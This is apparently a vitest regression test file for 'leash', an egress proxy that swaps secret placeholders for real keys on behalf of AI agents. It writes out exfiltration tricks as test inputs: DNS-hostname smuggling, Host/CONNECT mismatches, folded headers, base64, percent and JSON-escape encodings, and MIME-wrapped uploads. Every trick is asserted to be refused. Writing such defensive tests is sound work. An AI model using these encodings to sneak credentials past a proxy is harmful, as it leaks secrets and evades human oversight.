// Review regressions (secrets, issue #17): ways the real value of a secret, or a placeholder, used to get where it
// must not (an echoed response header, $ patterns in a value, destination tricks). Each `it` asserts what holds.

import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadCa } from '../../src/tls/ca.js';
import { placeholderEnvironment } from '../../src/secrets/environment.js';
import { injectSecrets } from '../../src/secrets/inject.js';
import type { CompiledSecret } from '../../src/secrets/spec.js';
import { tempDir } from '../helpers/audit-sink.js';
import { createTestCa } from '../helpers/certs.js';
import { startHttpsOrigin, type TestOrigin } from '../helpers/origin.js';
import { policy, startLeash, type TestLeash } from '../helpers/leash.js';
import { intercepted } from './tunnel-client.js';

const REAL_KEY = 'plainword-REALKEY-forapi';
const ECHO_KEY = 'plainword-ECHOKEY-forapi';
let origin: TestOrigin;
let leash: TestLeash;
let leashCa: string;
let dir: string;
let ph: Record<string, string>;

beforeAll(async () => {
  dir = await tempDir('leash-review4-');
  const originCa = createTestCa('origin test CA');
  const extraCa = path.join(dir, 'origin-ca.pem');
  await writeFile(extraCa, originCa.certPem);
  await writeFile(path.join(dir, 'api-key'), REAL_KEY);
  await writeFile(path.join(dir, 'echo-key'), ECHO_KEY);
  // An API that does what many do: CORS (Origin echoed into Access-Control-Allow-Origin) and a request id echoed.
  origin = await startHttpsOrigin(originCa.issue(['api.test', 'other.test']), (req, res) => {
    const headers: Record<string, string> = { 'content-type': 'text/plain' };
    if (req.headers.origin) headers['access-control-allow-origin'] = String(req.headers.origin);
    if (req.headers['x-request-id']) headers['x-request-id'] = String(req.headers['x-request-id']);
    res.writeHead(200, headers);
    res.end('ok');
  });
  leash = await startLeash(
    policy(`
settings:
  dns: { hosts: { api.test: 127.0.0.1, other.test: 127.0.0.1 } }
  network: { allowCidrs: ["127.0.0.0/8"] }
  tls: { extraCa: ${JSON.stringify(extraCa)} }
  tlsPorts: [${origin.port}]
secrets:
  openai:
    value: ${JSON.stringify(`file:${path.join(dir, 'api-key')}`)}
    hosts: [api.test]
    header: Authorization
    format: "Bearer {}"
  echo:
    value: ${JSON.stringify(`file:${path.join(dir, 'echo-key')}`)}
    hosts: [api.test]
rules:
  - { name: api, domain: api.test, ports: [${origin.port}], methods: [GET, POST], effect: allow }
  - { name: other, domain: other.test, ports: [${origin.port}], methods: [GET, POST], effect: allow }
`),
  );
  leashCa = await readFile(path.join(leash.dir, 'certs', 'leash-ca.pem'), 'utf8');
  const ca = await loadCa(path.join(leash.dir, 'certs'));
  ph = placeholderEnvironment(leash.running.proxy.policy, 'anonymous', ca!.key);
});

afterAll(async () => {
  await leash?.stop();
  await origin?.close();
});

const req = (host: string, extra: string) =>
  `GET /v1/x HTTP/1.1\r\nHost: ${host}:${origin.port}\r\n${extra}Connection: close\r\n\r\n`;

describe('the real value reflected back to the agent', () => {
  it('a secret with no header named: the placeholder in Origin / X-Request-Id comes back as the real value', async () => {
    const p = ph.LEASH_SECRET_ECHO as string;
    expect(p).toMatch(/^leash-ph-echo-/);
    const t = await intercepted(leash.port, 'api.test', origin.port, leashCa);
    await t.send(req('api.test', `Origin: https://${p}\r\nX-Request-Id: ${p}\r\n`), 1);
    await t.closed;
    // What SHOULD hold: the agent never gets the key. It does: the API echoes the header leash injected into.
    expect(t.text()).not.toContain(ECHO_KEY);
  });
});

describe('format with $ patterns in the value', () => {
  const secret = (format: string): CompiledSecret =>
    ({
      name: 's',
      source: { kind: 'env', ref: 'X' },
      hosts: [],
      target: { kind: 'header', name: 'authorization', format },
      location: { file: 'p', line: 1, column: 1 },
    }) as unknown as CompiledSecret;
  it.each([
    ['$& (the matched {})', 'pa$&ss'],
    ["$' (text after {})", "pa$'ss"],
    ['$` (text before {})', 'pa$`ss'],
    ['$$', 'pa$$ss'],
  ])('a value holding %s is sent as written', (_name, value) => {
    const out = injectSecrets({ authorization: 'Bearer leash-ph-s-00000000000000000000000000000000' }, '/', [
      { secret: secret('Bearer {}'), placeholder: 'leash-ph-s-00000000000000000000000000000000', value },
    ]);
    expect(out.headers.authorization).toBe(`Bearer ${value}`);
  });
});

describe('more routes', () => {
  it('a CONNECT whose host name carries the placeholder (a DNS exfiltration) is refused as secret_misuse', async () => {
    const { connectRaw } = await import('./tunnel-client.js');
    const p = ph.LEASH_SECRET_OPENAI as string;
    const { socket, answer } = await connectRaw(leash.port, `${p}.other.test`, origin.port);
    socket.destroy();
    expect(answer).toMatch(/^HTTP\/1\.1 403/);
    expect(answer).toContain('secret_misuse');
  });
  it("another agent's (forged) placeholder on the secret's own host is refused and never injected", async () => {
    const forged = `leash-ph-openai-${'0'.repeat(32)}`;
    const before = origin.seen.length;
    const t = await intercepted(leash.port, 'api.test', origin.port, leashCa);
    const statuses = await t.send(req('api.test', `Authorization: Bearer ${forged}\r\n`), 1);
    await t.closed;
    expect(statuses[0]).toBe('HTTP/1.1 403');
    expect(origin.seen.length).toBe(before);
  });
  it('the audit log holds no value after the echo', async () => {
    const text = await readFile(leash.auditFile, 'utf8').catch(() => '');
    await leash.records();
    const all = await readFile(leash.auditFile, 'utf8');
    expect(text + all).not.toContain(ECHO_KEY);
    expect(all).not.toContain(REAL_KEY);
  });
});

describe('body watch: an encoded placeholder longer than the window, sent in small chunks', () => {
  // Each character as %XX, and each character of that as a JSON \u escape: 18 characters per placeholder character,
  // 738 in all, more than HOLD (512) plus a small chunk. decodingSteps undoes it (JSON, then percent).
  const encode = (p: string) =>
    [...p]
      .map((c) =>
        [...`%${c.charCodeAt(0).toString(16).padStart(2, '0')}`]
          .map((d) => `\\u${d.charCodeAt(0).toString(16).padStart(4, '0')}`)
          .join(''),
      )
      .join('');
  const post = async (chunkSize: number) => {
    const p = ph.LEASH_SECRET_OPENAI as string;
    const body = `{"note":"${encode(p)}"}`;
    const before = origin.seen.length;
    const t = await intercepted(leash.port, 'other.test', origin.port, leashCa);
    t.client.write(
      `POST /store HTTP/1.1\r\nHost: other.test:${origin.port}\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n`,
    );
    for (let i = 0; i < body.length; i += chunkSize) {
      const piece = body.slice(i, i + chunkSize);
      t.client.write(`${piece.length.toString(16)}\r\n${piece}\r\n`);
      await new Promise((r) => setTimeout(r, 15));
    }
    t.client.write('0\r\n\r\n');
    await Promise.race([t.closed, new Promise((r) => setTimeout(r, 3000))]);
    t.close();
    const seen = origin.seen.slice(before).map((s) => s.body.toString('latin1'));
    return { status: t.statuses()[0], arrived: seen.some((b) => b.includes(encode(p).slice(0, 600))) };
  };
  it('in one chunk: refused (sanity)', async () => {
    const r = await post(100_000);
    expect(r.status).toBe('HTTP/1.1 403');
    expect(r.arrived).toBe(false);
  });
});

describe('destination tricks inside an intercepted tunnel', () => {
  const p = () => ph.LEASH_SECRET_OPENAI as string;
  it.each([
    [
      'CONNECT other.test, Host: api.test',
      'other.test',
      (port: number) =>
        `GET /x HTTP/1.1\r\nHost: api.test:${port}\r\nAuthorization: Bearer ${p()}\r\nConnection: close\r\n\r\n`,
    ],
    [
      'CONNECT other.test, absolute target https://api.test',
      'other.test',
      (port: number) =>
        `GET https://api.test:${port}/x HTTP/1.1\r\nHost: api.test:${port}\r\nAuthorization: Bearer ${p()}\r\nConnection: close\r\n\r\n`,
    ],
    [
      'CONNECT other.test, folded header',
      'other.test',
      (port: number) =>
        `GET /x HTTP/1.1\r\nHost: other.test:${port}\r\nX-A: Bearer\r\n ${p()}\r\nConnection: close\r\n\r\n`,
    ],
    [
      'CONNECT other.test, placeholder upper-cased',
      'other.test',
      (port: number) =>
        `GET /x HTTP/1.1\r\nHost: other.test:${port}\r\nX-A: ${p().toUpperCase()}\r\nConnection: close\r\n\r\n`,
    ],
    [
      'CONNECT other.test, base64url at an offset in the query',
      'other.test',
      (port: number) =>
        `GET /x?d=${Buffer.from(`zz${p()}`).toString('base64url')} HTTP/1.1\r\nHost: other.test:${port}\r\nConnection: close\r\n\r\n`,
    ],
    [
      'CONNECT other.test, double percent in the path',
      'other.test',
      (port: number) =>
        `GET /${[...p()].map((c) => `%25${c.charCodeAt(0).toString(16)}`).join('')} HTTP/1.1\r\nHost: other.test:${port}\r\nConnection: close\r\n\r\n`,
    ],
  ])('%s: refused, nothing reaches the origin with the value or the placeholder', async (_name, host, make) => {
    const before = origin.seen.length;
    const t = await intercepted(leash.port, host, origin.port, leashCa);
    const statuses = await t.send(make(origin.port), 1);
    await t.closed;
    expect(statuses[0]).toMatch(/HTTP\/1\.1 (400|403|421)/);
    expect(origin.seen.length).toBe(before);
  });
});

describe('base64 wrapped at 76 columns (MIME, PEM, email attachments)', () => {
  it('a placeholder whose base64 straddles a line break, in a body to another host, is refused', async () => {
    const p = ph.LEASH_SECRET_OPENAI as string;
    const b64 = Buffer.from(`${'A'.repeat(40)}${p}`).toString('base64');
    const wrapped = (b64.match(/.{1,76}/g) as string[]).join('\r\n');
    const body = `--b\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\nContent-Transfer-Encoding: base64\r\n\r\n${wrapped}\r\n--b--\r\n`;
    const before = origin.seen.length;
    const t = await intercepted(leash.port, 'other.test', origin.port, leashCa);
    const statuses = await t.send(
      `POST /upload HTTP/1.1\r\nHost: other.test:${origin.port}\r\nContent-Type: text/plain\r\nContent-Length: ${Buffer.byteLength(body)}\r\nConnection: close\r\n\r\n${body}`,
      1,
    );
    await t.closed;
    expect(statuses[0]).toBe('HTTP/1.1 403');
    expect(origin.seen.length).toBe(before);
  });
});
